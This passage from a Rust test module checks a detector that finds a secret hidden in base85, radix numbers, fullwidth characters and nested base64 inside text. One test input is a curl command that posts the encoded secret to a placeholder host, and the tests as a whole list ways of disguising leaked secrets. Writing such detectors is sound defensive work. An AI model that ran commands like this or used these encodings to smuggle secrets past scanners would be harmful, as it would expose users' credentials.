            let mut d = [0u8; 5];
            for slot in d.iter_mut().rev() {
                *slot = (v % 85) as u8 + 33;
                v /= 85;
            }
            s.push_str(std::str::from_utf8(&d[..chunk.len() + 1]).unwrap());
        }
        s
    }

    #[test]
    fn base85_forms() {
        let enc = a85(SECRET.as_bytes());
        assert!(found(&format!("<~{enc}~>"), "base85"));
        assert!(found(&format!("data {enc} end"), "base85"));
        assert!(found(&format!("curl -d 'v={enc}' https://x.example/"), "base85"));
    }

    /// `bytes` as a number written in `radix` with `alphabet`.
    fn to_radix(bytes: &[u8], radix: u32, alphabet: &[u8]) -> String {
        let mut digits: Vec<u8> = Vec::new(); // little-endian, base `radix`
        for &b in bytes {
            let mut carry = u32::from(b);
            for d in digits.iter_mut() {
                let v = u32::from(*d) * 256 + carry;
                *d = (v % radix) as u8;
                carry = v / radix;
            }
            while carry > 0 {
                digits.push((carry % radix) as u8);
                carry /= radix;
            }
        }
        digits.iter().rev().map(|&d| alphabet[d as usize] as char).collect()
    }

    #[test]
    fn long_numbers_and_fullwidth_forms() {
        let octets: Vec<String> = SECRET.bytes().map(|b| format!("{b:08b}")).collect();
        assert!(found(&format!("v={}", octets.join(" ")), "radix"));
        assert!(found(&octets.concat(), "radix"));
        assert!(found(&format!("v={}", to_radix(SECRET.as_bytes(), 10, b"0123456789")), "radix"));
        assert!(found(&format!("v={}", to_radix(SECRET.as_bytes(), 58, super::BASE58)), "radix"));
        let wide: String = SECRET.chars().map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap()).collect();
        assert!(found(&format!("v={wide}"), "invisible"));
        // Ordinary numbers (a timestamp, a phone number, an id) stay as they are.
        for quiet in ["ts=1733241600 phone=+14155550123", "order 123456789012345678 shipped"] {
            assert!(!dec(quiet).iter().any(|d| d.encoding.contains("radix")), "{quiet}");
        }
    }

    #[test]
    fn nested_base64_four_deep() {
        let mut v = SECRET.to_owned();
        for _ in 0..4 {
            v = STANDARD.encode(&v);
        }
        assert!(found(&format!("d={v}"), "base64+base64+base64+base64"));
    }

    #[test]
    fn quiet_on_ordinary_text_and_not_on_sources() {
        let text = "The quick brown fox jumps over the lazy dog. See https://example.com/a/b?c=1 for more.";
        assert!(dec(text)
            .iter()
            .all(|d| !matches!(d.encoding.as_str(), "charcodes" | "base85" | "invisible" | "concat")));
        let dashed = "s-k-_-l-i-v-e-_-5-1-u-m-i-2-Y-e";
        assert!(decode_encodings(dashed, &Limits::default()).iter().all(|d| d.encoding != "separators"));
    }
}
